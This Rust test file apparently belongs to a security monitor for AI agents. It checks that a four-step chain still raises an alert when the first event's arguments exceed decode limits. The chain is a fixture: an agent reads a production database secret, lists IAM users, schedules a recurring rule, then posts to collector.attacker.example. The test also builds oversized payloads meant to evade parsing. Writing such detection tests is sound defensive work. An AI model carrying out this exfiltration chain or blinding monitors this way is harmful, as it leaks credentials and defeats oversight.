//! Limits that do not hide events (issue 15): an AI agent's secret read whose attacker-written
//! `tool.arguments` is over a decode limit used to be dead-lettered whole, and the chain it
//! starts was missed. Each such event is now decoded with the excess marked, and the chain
//! alerts as it does with a harmless event.

mod common;

use std::io::Write;

use common::*;

/// The four steps of `agent_chain_secret_to_new_destination`, the first with `arguments`.
fn chain(arguments: &str) -> Vec<String> {
    let step = |secs: u32, id: &str, tool: &str, args: &str, target: &str| {
        format!(
            r#"{{"event_type":"tool_call","event_id":"{id}","timestamp":"2024-06-01T10:00:0{secs}Z","agent":{{"id":"agent-7","name":"ops-copilot","session":"s-1","on_behalf_of":"alice@example.com"}},"tool":{{"name":"{tool}","arguments":{args}}},"target":{target},"outcome":"success"}}"#
        )
    };
    vec![
        step(
            0,
            "e0",
            "aws_secretsmanager_get_secret_value",
            arguments,
            r#"{"resource":"prod/db/password"}"#,
        ),
        step(1, "e1", "aws_iam_list_users", "{}", "{}"),
        step(
            2,
            "e2",
            "aws_events_put_rule",
            "{}",
            r#"{"resource":"rate(5 minutes)"}"#,
        ),
        step(
            3,
            "e3",
            "http_post",
            "{}",
            r#"{"destination":"https://collector.attacker.example/in"}"#,
        ),
    ]
}

/// Replays `lines` with the shipped rules: (the agent chain's alerts as their event ids, dead
/// letters, events salvaged).
fn run(lines: &[String]) -> (Vec<Vec<String>>, u64, u64) {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("events.jsonl");
    let mut f = std::fs::File::create(&input).unwrap();
    for l in lines {
        writeln!(f, "{l}").unwrap();
    }
    drop(f);
    let (text, summary, _out) = replay(&pack(), &[input], 1, "5m");
    let chains = alerts(&text)
        .iter()
        .filter(|a| {
            a["finding_info"]["analytic"]["name"]
                .as_str()
                .unwrap_or("")
                .contains("agent_chain")
                || a["finding_info"]["title"]
                    .as_str()
                    .unwrap_or("")
                    .contains("destination")
        })
        .map(|a| {
            a["evidences"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["data"]["event_uid"].as_str().unwrap_or("").to_string())
                .collect()
        })
        .collect();
    let salvaged = summary.workers.salvaged.values().sum();
    (chains, summary.sequencer.dead_letters, salvaged)
}

#[test]
fn a_chain_whose_first_event_is_over_a_decode_limit_still_alerts() {
    let (baseline, dead, salvaged) = run(&chain("{}"));
    assert_eq!((dead, salvaged), (0, 0));
    // One alert line or several (an incident's Create, Updates, Close): the chain is there.
    assert!(
        baseline.iter().any(|c| c == &["e0", "e1", "e2", "e3"]),
        "the harmless chain alerts: {baseline:?}"
    );
    let evasions = [
        (
            "an integer above u64",
            "{\"n\": 18446744073709551616}".to_string(),
        ),
        ("1e309", "{\"x\": 1e309}".to_string()),
        (
            // The event's own two levels and 64 more: over the depth limit of 64.
            "64 levels of nesting",
            format!("{}1{}", "{\"a\":".repeat(64), "}".repeat(64)),
        ),
        (
            "10,001 values",
            format!("{{\"v\": [{}]}}", vec!["1"; 10_001].join(",")),
        ),
        (
            "1.1 MB",
            format!("{{\"blob\": \"{}\"}}", "A".repeat(1_100_000)),
        ),
    ];
    for (what, arguments) in evasions {
        let (chains, dead, salvaged) = run(&chain(&arguments));
        assert_eq!(dead, 0, "{what}: dead-lettered");
        assert_eq!(salvaged, 1, "{what}: not counted as salvaged");
        assert_eq!(chains, baseline, "{what}: the chain differs");
    }
}
